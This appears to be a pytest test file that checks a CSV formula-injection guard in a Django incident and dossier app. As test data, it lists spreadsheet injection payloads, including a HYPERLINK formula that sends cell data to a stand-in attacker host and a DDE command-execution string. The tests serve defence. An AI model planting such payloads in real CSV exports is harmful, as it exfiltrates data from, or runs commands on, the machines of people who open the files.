"""Every CSV we hand over shows typed text as text: a cell that a spreadsheet would read as a formula gets a
leading apostrophe. The formula starts and the answers are written out here (not read from vault.downloads),
on the guard itself, through the activity log's CSV and through a dossier's manifest.csv."""

import csv
import datetime as dt
import io
import json
import zipfile

import pytest
from django.urls import reverse

from incidents.services import parties as party_services
from tests.factories import UserFactory, make_case
from vault import downloads
from vault.downloads import spreadsheet_safe

# What Excel, LibreOffice and Google Sheets start a formula (or a DDE call) with.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

GUARDED = [
    # typed -> what the CSV cell holds
    ("=", "'="),
    ("+", "'+"),
    ("-", "'-"),
    ("@", "'@"),
    ("\t", "'\t"),
    ("\r", "'\r"),
    ("=1+1", "'=1+1"),
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+44 7700 900123", "'+44 7700 900123"),
    ("-2+3", "'-2+3"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("\r\n=1", "'\r\n=1"),
    ("==", "'=="),
]
UNCHANGED_TEXT = [
    "",
    "a",
    "a=b",
    "1-2",
    "1+1",
    "x@example.org",
    "Alex Jones",
    "'=1",  # an apostrophe first is already text
    " =1",  # a space first: the rule is the very first character
    "\n=1",  # a new line is not a formula start
    "A1",
    "SUM(1+1)",
    "(=1)",
    "0",
    "Élève =1",
    "＝1",  # the full-width sign: not one of the six
    "‐1",  # a hyphen, not the minus a spreadsheet reads
]
UNCHANGED_OTHER = [0, 3, -3, 1.5, -1.5, None, True, False, dt.date(2026, 1, 2), b"=1", ["=1"]]


def test_the_formula_starts_are_exactly_these():
    assert set(downloads.FORMULA_STARTS) == set(FORMULA_STARTS)
    assert len(downloads.FORMULA_STARTS) == len(FORMULA_STARTS)


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_each_formula_start_gets_an_apostrophe(start):
    assert spreadsheet_safe(start) == "'" + start
    assert spreadsheet_safe(start + "SUM(A1:A9)") == "'" + start + "SUM(A1:A9)"


@pytest.mark.parametrize(("typed", "cell"), GUARDED)
def test_formula_like_text_is_shown_as_text(typed, cell):
    assert spreadsheet_safe(typed) == cell


@pytest.mark.parametrize("typed", UNCHANGED_TEXT)
def test_other_text_is_unchanged(typed):
    assert spreadsheet_safe(typed) == typed


@pytest.mark.parametrize("value", UNCHANGED_OTHER, ids=repr)
def test_values_that_are_not_text_are_left_alone(value):
    """A number is a number, not typed text: -3 stays the number -3."""
    assert spreadsheet_safe(value) is value


def test_the_guard_adds_one_apostrophe_only_once_per_cell():
    assert spreadsheet_safe(spreadsheet_safe("=1")) == "'=1"


# Through the activity log's CSV -----------------------------------------------------------------

NAMES = ["=1+1", "+1", "-1", "@A1", "a=b", "1-2", "x@example.org"]


@pytest.mark.django_db
def test_the_activity_csv_guards_every_formula_start(client, owner):
    tabby = UserFactory(full_name="\tTab Person")
    carriage = UserFactory(full_name="\rCR Person")
    case = make_case(owner, editor=tabby, viewer=carriage)
    for name in NAMES:
        party_services.party_create(user=owner, case=case, kind="suspect", name=name)
    client.force_login(owner)
    response = client.get(reverse("incidents:activity_csv", args=[case.pk]))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"), newline="")))
    targets = {row[3] for row in rows[1:] if row[4] == "party.create"}
    assert targets == {"'=1+1", "'+1", "'-1", "'@A1", "a=b", "1-2", "x@example.org"}
    added = {row[3] for row in rows[1:] if row[4] == "membership.add"}
    assert added == {"'\tTab Person", "'\rCR Person"}
    # The time, the words and the code never start like a formula, and are left as they are.
    assert rows[0] == ["when", "who", "what", "target", "action"]
    assert all(not row[0].startswith("'") and not row[4].startswith("'") for row in rows[1:])
    assert {row[2] for row in rows[1:] if row[4] == "party.create"} == {
        f"added {name} to the people and organisations" for name in NAMES
    }


# Through a dossier's manifest.csv (the pack's last step, without compiling a PDF) ------------------


def test_the_manifest_csv_guards_every_formula_start_and_the_json_keeps_it_as_typed(tmp_path):
    from dossiers.compile import finish_pack

    pdf = tmp_path / "d.pdf"
    pdf.write_bytes(b"%PDF-1.4 stand-in")
    typed = ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "a=b", "1-2", ""]
    rows = [
        {"mark": f"AJ/{n}", "size": -n, "obtained": text, "withdrawn": text, "source_url": ""}
        for n, text in enumerate(typed, start=1)
    ]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        finish_pack(archive, pdf, "dossier-X.pdf", rows, "X")
    archive = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    cells = list(csv.DictReader(io.StringIO(archive.read("manifest.csv").decode(), newline="")))
    assert [row["obtained"] for row in cells] == ["'=1+1", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1", "a=b", "1-2", ""]
    assert [row["withdrawn"] for row in cells] == [row["obtained"] for row in cells]
    assert [row["size"] for row in cells] == ["-1", "-2", "-3", "-4", "-5", "-6", "-7", "-8", "-9"]  # numbers
    assert [row["mark"] for row in cells] == [f"AJ/{n}" for n in range(1, 10)]
    assert [row["obtained"] for row in json.loads(archive.read("manifest.json"))["exhibits"]] == typed
